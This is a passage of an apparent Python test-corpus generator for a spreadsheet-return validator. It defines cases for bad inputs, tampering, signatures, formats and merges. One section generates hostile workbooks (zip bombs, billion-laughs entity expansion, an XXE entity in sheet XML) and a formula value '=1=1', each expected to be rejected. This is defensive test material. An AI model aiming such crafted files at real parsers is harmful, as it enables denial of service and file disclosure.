         config={"comments": {"max_length": 2000, "required_at_or_below": "2"}}),
    # a round's inputs as data (issue 16): every kind's bad value, a required input left empty
    Case("inputs-all-good", input_value("riskit", "ei riskejä"), E, fresh=True, config=_inputs_config()),
    Case("input-number-words", input_value("toteutunut", "noin 40 %"), {"invalid-number": 1}, fresh=True,
         config=_inputs_config(), note="never 0.4 or 40: a number column takes a number only"),
    Case("input-number-out-of-range", input_value("toteutunut", 140), {"invalid-number": 1}, fresh=True,
         config=_inputs_config()),
    Case("input-number-percent-fraction", input_value("toteutunut", 0.4), {"number-looks-like-percent": 1},
         fresh=True, config=_inputs_config(), note="Excel stores '40 %' typed in a number cell as 0.4: said, taken"),
    Case("input-date-words", input_value("valmis", "ensi viikolla"), {"invalid-date": 1}, fresh=True,
         config=_inputs_config()),
    Case("input-date-finnish-text", input_value("valmis", "15.5.2025"), E, fresh=True, config=_inputs_config(),
         note="a date typed as text in the Finnish form is that date"),
    Case("input-choice-not-listed", input_value("tila", "ehkä"), {"invalid-choice": 1}, fresh=True,
         config=_inputs_config()),
    Case("input-text-too-long", input_value("riskit", "r" * 121), {"input-too-long": 1}, fresh=True,
         config=_inputs_config()),
    Case("input-required-missing", input_value("toteutunut", None), {"missing-input": 1, "ready-incomplete": 1},
         fresh=True, config=_inputs_config(), note="marked ready: the missing input is named"),
    Case("inputs-changed", b_inputs_changed, {"inputs-changed": 1}, fresh=True, config=_inputs_config()),
    # the ready mark (issue 13: ready and approved)
    Case("ready-mark-empty", lambda c: c.fill(ready=None), {"draft-return": 1}, note="a draft: counted as not returned"),
    Case("ready-mark-no", lambda c: c.fill(ready="Ei"), {"draft-return": 1}),
    Case("ready-mark-other-language", lambda c: c.fill(ready="  ja "), E, note="Ja / Yes are understood too"),
    Case("ready-mark-unknown-text", lambda c: c.fill(ready="valmis kai"), {"invalid-ready-mark": 1},
         note="read as a draft"),
    Case("ready-mark-formula", lambda c: c.fill(ready="=1=1"), {"invalid-ready-mark": 1}),
    Case("ready-without-approver", lambda c: c.fill(approver=None), {"missing-approver": 1},
         note="counts as ready: a warning"),
    Case("ready-approver-spaces", lambda c: c.fill(approver="  \t "), {"missing-approver": 1}),
    Case("ready-cells-repointed", b_ready_repointed, {"signature-invalid": 1},
         note="the ready cells' places are signed"),
    Case("ready-key-removed", b_ready_key_removed, {"signature-invalid": 1}),
    # rows and columns
    Case("rows-sorted", b_rows_sorted, E),
    Case("rows-hidden", b_rows_hidden, E),
    Case("rows-filtered", b_rows_filtered, E),
    Case("column-inserted-unprotected", b_column_inserted, {"columns-moved": 1, "protection-removed": 1}),
    Case("column-hidden-unprotected", b_column_hidden, {"protection-removed": 1}),
    Case("header-row-deleted", b_header_deleted, {"structure-changed": 1, "row-deleted": N_HKP}),
    Case("locked-text-changed", b_locked_text_changed, {"structure-changed": 1}),
    Case("row-deleted", b_row_deleted, {"row-deleted": 1, "protection-removed": 1}),
    Case("zero-rows", b_zero_rows, {"row-deleted": N_HKP, "protection-removed": 1}),
    Case("row-added", b_row_added, {"row-added": 1, "protection-removed": 1}),
    Case("row-duplicated", b_row_duplicated, {"duplicate-row": 1, "protection-removed": 1},
         note="the same action twice with different grades: a conflict, neither merged"),
    Case("protection-removed", b_protection_removed, {"protection-removed": 1}),
    Case("header-renamed", b_header_renamed, {"header-renamed": 1}, note="one renamed title: read by its place"),
    Case("header-renamed-and-moved", b_header_renamed_and_moved,
         {"columns-moved": 1, "column-missing": 1, "protection-removed": 1, "content-outside-inputs": 1},
         note="moved and one title gone: that column is not read (its typed cells are named), the others are"),
    # sheets
    Case("sheet-renamed", b_sheet_renamed, {"sheet-renamed": 1}, note="read by its titles: a warning"),
    Case("sheet-added", b_sheet_added, {"content-outside-inputs": 1}),
    Case("instructions-sheet-deleted", b_instructions_deleted, E),
    Case("data-sheet-deleted", b_data_sheet_deleted, {"structure-changed": 1, "row-deleted": N_HKP}),
    Case("meta-sheet-deleted", b_meta_sheet_deleted, {"unknown-workbook": 1}),
    # identity
    Case("unknown-workbook", b_unknown_workbook, {"unknown-workbook": 1}),
    Case("department-changed", b_department_changed, {"signature-invalid": 1}),
    Case("round-changed", b_round_changed, {"signature-invalid": 1}),
    Case("signature-stripped", b_signature_stripped, {"unknown-workbook": 1}),
    Case("row-hash-changed", b_row_hash_changed, {"signature-invalid": 1}),
    Case("meta-from-other-department", b_meta_from_other_department, {"signature-invalid": 1}),
    Case("meta-pasted-over", b_meta_pasted_over, {"signature-invalid": 1}),
    Case("signature-other-project", b_other_project, {"signature-invalid": 1}),
    Case("meta-formula", b_formula_in_meta, {"structure-changed": 1, "row-deleted": N_HKP}),
    Case("meta-columns-garbage", b_meta_columns_garbage, {"structure-changed": 1, "row-deleted": N_HKP}),
    # other programs and formats
    Case("libreoffice-saved", b_libreoffice_saved, E, libreoffice=True),
    Case("format-xls", b_xls, {"not-xlsx": 1}, libreoffice=True),
    Case("format-ods", b_ods, {"not-xlsx": 1}, libreoffice=True),
    Case("format-ods-named-xlsx", b_ods_named_xlsx, {"not-xlsx": 1}, libreoffice=True),
    Case("format-csv", b_csv, {"not-xlsx": 1}, libreoffice=True),
    Case("format-xlsm", b_xlsm, {"not-xlsx": 1}),
    Case("format-html-named-xls", b_html_named_xls, {"not-xlsx": 1}),
    # damaged packages and attacks
    Case("truncated-zip", b_truncated, {"corrupt-file": 1}),
    Case("random-bytes", b_garbage, {"corrupt-file": 1}),
    Case("zip-not-a-workbook", b_zip_not_package, {"corrupt-file": 1}),
    Case("sheet-xml-cut", b_sheet_xml_broken, {"corrupt-file": 1}),
    Case("zip-crc-damaged", b_crc_damaged, {"corrupt-file": 1}),
    Case("empty-file", b_empty, {"corrupt-file": 1}),
    Case("sparse-100mb", b_sparse_100mb, {"file-too-large": 1}),
    Case("zip-bomb-ratio", b_zip_bomb, {"file-too-large": 1}),
    Case("zip-bomb-total", b_zip_total_bomb, {"file-too-large": 1}),
    Case("zip-many-members", b_zip_many_members, {"file-too-large": 1}),
    Case("entities-workbook-xml", _entity("xl/workbook.xml", BILLION_LAUGHS), {"corrupt-file": 1}),
    Case("entities-sheet-xml", _entity("xl/worksheets/sheet1.xml", BILLION_LAUGHS), {"corrupt-file": 1}),
    Case("entities-core-xml", _entity("docProps/core.xml", BILLION_LAUGHS), {"corrupt-file": 1}),
    Case("xxe-sheet-xml", _entity("xl/worksheets/sheet1.xml", XXE), {"corrupt-file": 1}),
    Case("entities-shared-strings", _shared_strings(reference=True), {"corrupt-file": 1}),
    Case("dtd-shared-strings-unused", _shared_strings(reference=False), {"corrupt-file": 1}),
    Case("encrypted", b_encrypted, {"encrypted-file": 1}),
    Case("odd-file-name", b_odd_name, E),
    Case("excel-lock-file", b_excel_lock_file, {"skipped-file": 1}),
    # merges: sync in a project of its own
    Case("sync-missing-return", s_only_hkp, MISSING, mode="sync", fresh=True),
    Case("sync-nothing-returned", s_empty_folder, {"missing-return": 3}, mode="sync", fresh=True),
    Case("sync-wrong-round", s_wrong_round, {"wrong-round": 1, "missing-return": 3}, mode="sync", fresh=True,
         sync_args=("--round", "2024-kevat")),
    Case("sync-duplicate-stale", s_duplicate_and_stale, {"duplicate-return": 1, "conflicting-versions": 1, **MISSING},
         mode="sync", fresh=True, note="both arrive in one sync: not stale; they disagree on one grade"),
    Case("sync-stale", s_stale, {"duplicate-return": 1, "stale-return": 1, "conflicting-versions": 1, **MISSING},
         mode="sync", fresh=True, note="the older version arrives at a later sync"),
    Case("sync-value-cleared", s_value_cleared,
         {"value-cleared": 2, "missing-grade": 1, "ready-incomplete": 1, "duplicate-return": 1, **MISSING},
         mode="sync", fresh=True, note="the newer file, marked ready, lacks the values it cleared"),
    Case("sync-rows-not-merged", s_rows_not_merged, {"invalid-grade": 1, "rows-not-merged": 1, **MISSING},
         mode="sync", fresh=True),
    Case("sync-with-junk-files", s_all_three_and_junk, {"skipped-file": 2, "corrupt-file": 1}, mode="sync",
         fresh=True),
    # the round's life: closed, strategy changed, comments carried
    Case("sync-late-return", s_late_return, {"late-return": 1, "missing-return": 3}, mode="sync", fresh=True,
         note="the round was closed before the file arrived: recorded, not merged"),
    Case("sync-outdated-workbook", s_outdated_workbook, {"outdated-workbook": 1, "rows-not-merged": 1, **MISSING},
         mode="sync", fresh=True, note="one reworded action; the other 53 grades merged"),
    Case("sync-carried-comment", s_carried_comment, {"carried-comment": N_HKP_COMMENTED, "ready-incomplete": 1,
                                                     **MISSING}, mode="sync",
         fresh=True, sync_args=("--round", "2024-kevat"), note="every carried comment left as it was"),
]


def case(name: str) -> Case:
    return next(c for c in CASES if c.name == name)


def build(c: Case, corpus: Corpus) -> Path:
    corpus.case = c.name
    return c.build(corpus)


def main(argv: list[str] | None = None) -> int:
    """python tests/corpus/generate.py OUT_DIR: write the corpus and a table of what each must give."""
    out = Path((argv or sys.argv[1:] or ["corpus-out"])[0]).resolve()
    out.mkdir(parents=True, exist_ok=True)
    shared = Corpus(out / "shared")
    table = {}
    for c in CASES:
        corpus = Corpus(out / c.name, **c.config) if c.fresh else shared
        table[c.name] = {"path": str(build(c, corpus)), "mode": c.mode, "expected": c.expected}
    (out / "expected.json").write_text(json.dumps(table, ensure_ascii=False, indent=2), "utf-8")
    print(f"{len(CASES)} cases in {out}")
    return 0


if __name__ == "__main__":
    sys.exit(main())
